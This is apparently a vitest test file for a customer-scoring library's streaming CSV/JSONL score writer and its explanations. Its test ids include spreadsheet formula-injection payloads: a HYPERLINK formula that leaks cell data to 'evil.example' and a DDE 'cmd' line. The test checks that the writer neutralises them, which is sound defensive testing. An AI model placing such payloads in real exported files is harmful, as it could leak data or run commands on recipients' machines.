import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  type CustomerSummary,
  explainScore,
  fitModel,
  MODEL_KINDS,
  parseSummaryCsv,
  type Score,
  scoreColumns,
  scoreCustomers,
  simulateBgNbd,
  type TimeUnit,
  toColumns,
} from '../../../../functions/core/model/index.ts';
import { csvTable } from '../../../../functions/core/reporting/csv-output.ts';
import { SCORE_FILE_COLUMNS, scoreFileChunks } from '../../../../functions/core/reporting/score-file.ts';

const summary = parseSummaryCsv(
  readFileSync('/work/shared/data/cdnow/cdnow_summary.csv', 'utf8'),
  'cdnow_summary.csv',
);

/** explainScore as it was before it was made cheap (per-row regex and unit words): the reference. */
function referenceExplain(
  score: Omit<Score, 'explanation' | 'customerId'>,
  horizon: number,
  unit: TimeUnit,
): string {
  const round = (value: number): string =>
    value >= 10 ? value.toFixed(0) : value.toFixed(1).replace(/\.0$/, '');
  const unitLabel = (value: number): string =>
    round(value) === '1' ? (unit === 'weeks' ? 'week' : 'day') : unit;
  const since = score.T - score.recency;
  const chance = `${(score.pReturn * 100).toFixed(0)}% chance of buying in the next ${round(horizon)} ${unitLabel(horizon)}`;
  if (score.frequency === 0) return `one purchase so far, ${round(since)} ${unitLabel(since)} ago; ${chance}`;
  const gap = `usually buys every ~${round(score.expectedGap)} ${unitLabel(score.expectedGap)}`;
  const status =
    score.overdueRatio >= 1
      ? `now ${score.overdueRatio.toFixed(1)}x overdue`
      : `last bought ${round(since)} ${unitLabel(since)} ago, not yet due`;
  return `${gap}; ${status}; ${chance}`;
}

/** What `rekindle model score --out` wrote before it streamed: score objects, then one string. */
function referenceFile(scores: readonly Score[], format: 'csv' | 'jsonl'): string {
  if (format === 'csv') return csvTable(SCORE_FILE_COLUMNS, scores);
  const lines = scores.map((score) =>
    JSON.stringify(Object.fromEntries(SCORE_FILE_COLUMNS.map((column) => [column, score[column]]))),
  );
  return `${lines.join('\n')}\n`;
}

function textOf(chunks: Iterable<Uint8Array>): string {
  return Buffer.concat([...chunks]).toString('utf8');
}

const awkwardIds = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  'comma, inside',
  'say "hi"',
  'line\nbreak',
  'naïve ü 東京',
  '',
];

/** 300 CDNOW customers under awkward ids, plus one-time buyers and long-overdue customers. */
function edgeCustomers(): CustomerSummary[] {
  const rows = summary.customers.slice(0, 300).map((customer, i) => ({
    ...customer,
    customerId: awkwardIds[i % 40] ?? customer.customerId,
  }));
  return [
    ...rows,
    { customerId: 'one-time', frequency: 0, recency: 0, T: 0.05 },
    { customerId: 'one-time-old', frequency: 0, recency: 0, T: 77.5 },
    { customerId: 'overdue', frequency: 1, recency: 0.5, T: 70 },
    { customerId: 'just-bought', frequency: 30, recency: 38.86, T: 38.86 },
    { customerId: 'one-week-gap', frequency: 9, recency: 9.5, T: 10.5 },
  ];
}

function inputOf(customers: readonly CustomerSummary[]) {
  return {
    columns: toColumns(customers),
    size: customers.length,
    customerId: (i: number) => customers[i]?.customerId ?? '',
  };
}

describe('scoreFileChunks', () => {
  const customers = edgeCustomers();
  const input = inputOf(customers);
  // Each row three times under other ids: the writer makes a repeated row's text once.
  const repeated = customers.flatMap((customer) =>
    ['', '-b', '-c'].map((suffix) => ({ ...customer, customerId: `${customer.customerId}${suffix}` })),
  );

  for (const kind of [...MODEL_KINDS, 'rfm'] as const) {
    it(`writes ${kind} scores byte for byte as the whole-file writer did, in CSV and JSON Lines`, () => {
      // Too few repeat buyers makes the RFM fallback.
      const fit =
        kind === 'rfm' ? fitModel('bgnbd', customers.slice(0, 20)) : fitModel(kind, summary.customers);
      expect(fit.model).toBe(kind);
      for (const [horizon, unit] of [
        [39, 'weeks'],
        [1, 'days'],
        [0.95, 'weeks'],
      ] as const) {
        for (const rows of [customers, repeated]) {
          const scores = scoreCustomers(fit, rows, horizon, unit);
          for (const format of ['csv', 'jsonl'] as const) {
            const expected = referenceFile(scores, format);
            // 1,000-byte chunks cross the edge cases; the default is one chunk here.
            expect(textOf(scoreFileChunks(fit, inputOf(rows), horizon, unit, format, 1000))).toBe(expected);
            expect(textOf(scoreFileChunks(fit, inputOf(rows), horizon, unit, format))).toBe(expected);
          }
        }
      }
    });
  }

  it('keeps formula-like ids from running in a spreadsheet', () => {
    const fit = fitModel('bgnbd', summary.customers);
    const text = textOf(scoreFileChunks(fit, input, 39, 'weeks', 'csv'));
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
    expect(text).toContain("\n'+1+1,");
    expect(text).toContain('\n"comma, inside",');
    expect(text).not.toMatch(/\n[=+@]/);
  });

  it('writes chunks of at most chunkBytes that together are the whole file', () => {
    const fit = fitModel('bgnbd', summary.customers);
    const all = inputOf(summary.customers);
    const whole = textOf(scoreFileChunks(fit, all, 39, 'weeks', 'csv'));
    const chunks = [...scoreFileChunks(fit, all, 39, 'weeks', 'csv', 100_000)];
    expect(chunks.length).toBeGreaterThanOrEqual(Math.ceil(Buffer.byteLength(whole) / 100_000));
    expect(Math.max(...chunks.map((chunk) => chunk.length))).toBeLessThanOrEqual(100_000);
    expect(Buffer.concat(chunks).toString('utf8')).toBe(whole);
    expect(whole.split('\n')).toHaveLength(summary.customers.length + 2);
  });
});

describe('explainScore', () => {
  const times = fc.oneof(
    fc.constantFrom(0, 0.04, 0.05, 0.95, 0.949, 1, 1.04, 1.05, 9.94, 9.95, 9.96, 10, 10.5, 1e21, -0.04),
    fc.double({ min: 0, max: 200, noNaN: true }),
  );
  it('reads exactly as the per-row regex version did', () => {
    fc.assert(
      fc.property(
        fc.record({
          frequency: fc.constantFrom(0, 1, 3),
          recency: times,
          T: times,
          pAlive: fc.double({ min: 0, max: 1, noNaN: true }),
          expectedPurchases: times,
          pReturn: fc.oneof(fc.constantFrom(0, 0.005, 0.995, 1), fc.double({ min: 0, max: 1, noNaN: true })),
          expectedGap: times,
          overdueRatio: fc.oneof(fc.constantFrom(0.99, 0.999, 1, 2.25), times),
        }),
        times,
        fc.constantFrom<TimeUnit>('days', 'weeks'),
        (score, horizon, unit) => {
          expect(explainScore(score, horizon, unit)).toBe(referenceExplain(score, horizon, unit));
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('scoreColumns on nearly distinct rows', () => {
  it('scores every row unmerged exactly as merged slices of the same rows', () => {
    // Continuous times: a sample finds nearly every row distinct, so the 30,000 rows are not merged.
    const rows = simulateBgNbd({ customers: 30_000, seed: 4, T: { min: 27, max: 39 }, resolution: 0 });
    const fit = fitModel('mbgnbd', rows);
    const whole = scoreColumns(fit, rows, 39);
    for (const from of [0, 10_000, 20_000]) {
      const slice = {
        frequency: rows.frequency.subarray(from, from + 10_000),
        recency: rows.recency.subarray(from, from + 10_000),
        T: rows.T.subarray(from, from + 10_000),
      };
      const part = scoreColumns(fit, slice, 39);
      for (const key of ['pAlive', 'expectedPurchases', 'pReturn', 'expectedGap', 'overdueRatio'] as const)
        expect(whole[key].subarray(from, from + 10_000)).toEqual(part[key]);
    }
  });
});
